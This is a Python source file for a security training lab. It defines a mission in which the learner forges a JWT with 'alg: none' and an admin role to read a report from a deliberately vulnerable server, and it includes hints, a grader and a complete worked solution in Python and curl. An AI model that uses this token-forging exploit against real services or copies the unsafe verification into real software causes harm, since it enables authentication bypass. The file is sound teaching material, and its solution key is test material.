"""A server at which the token's header decides whether the signature is verified."""

from flask_babel import gettext
from flask_babel import lazy_gettext as _

from lab.pages.missions.ground import Ground
from lab.pages.missions.mission import CURL_AND_PYTHON, Begun, Mission, Part, Verdict, answer
from lab.trials import Kept
from lab.unsafe_server import UNSIGNED_TOKEN, report_server
from lab.unsafe_server.unsigned_token import issue
from service.web.fields import Fields


def begin(ground: Ground) -> Begun:
    """Make a server of the visitor's own, and a token for bob."""
    kept = report_server()
    return Begun(kept, {"SITE": "$LAB/unsafe/$TRIAL", "TOKEN": issue(kept, ground.now())})


def judge(_ground: Ground, kept: Kept, fields: Fields) -> Verdict:
    """Only the admin page has shown the report."""
    report = answer(fields, "report")
    if report == kept["report"]:
        return Verdict(
            True,
            gettext(
                "The server believed a token that no key had signed. In this lab the key says how a token is verified,"
                " and the header is only compared with it."
            ),
        )
    if report.count(".") == 2:
        return Verdict(False, gettext("That is a token. Send it to the page /admin, and hand in the report."))
    return Verdict(False, gettext("This is not the report. The page /admin shows it to the role admin."))


ALG_NONE = Mission(
    slug=UNSIGNED_TOKEN,
    approach=None,
    minutes=10,
    title=_("Become admin without a signature"),
    goal=_("Read the report on the admin page of a server that accepts alg: none."),
    who=_("You are bob, a user of this server. You have a token, but no key."),
    tool=CURL_AND_PYTHON,
    hints=(
        _("Read your token first. Its payload has the role, and its header names the algorithm of the signature."),
        _("A changed payload no longer fits the signature. Which algorithm needs no signature?"),
        _(
            'Write the header {"alg": "none"}, the payload with the role admin, and an empty signature: the token ends'
            " with its second dot."
        ),
    ),
    solution=(
        Part(
            _("Change header and role, leave the signature out, and ask for the admin page."),
            """\
FORGED=$(python3 - "$TOKEN" <<'END'
import base64, json, sys

def encode(part):
    return base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=").decode()

payload = sys.argv[1].split(".")[1]
claims = json.loads(base64.urlsafe_b64decode(payload + "=="))
print(encode({"alg": "none"}), encode({**claims, "role": "admin"}), "", sep=".")
END
)
curl -s -H "Authorization: Bearer $FORGED" "$SITE/admin" |
  python3 -c 'import json, sys; print("report:", json.load(sys.stdin)["report"])'""",
        ),
    ),
    walk="/jwt#signature",
    begin=begin,
    judge=judge,
    answers={"report": _("The report")},
    unsafe=True,
)
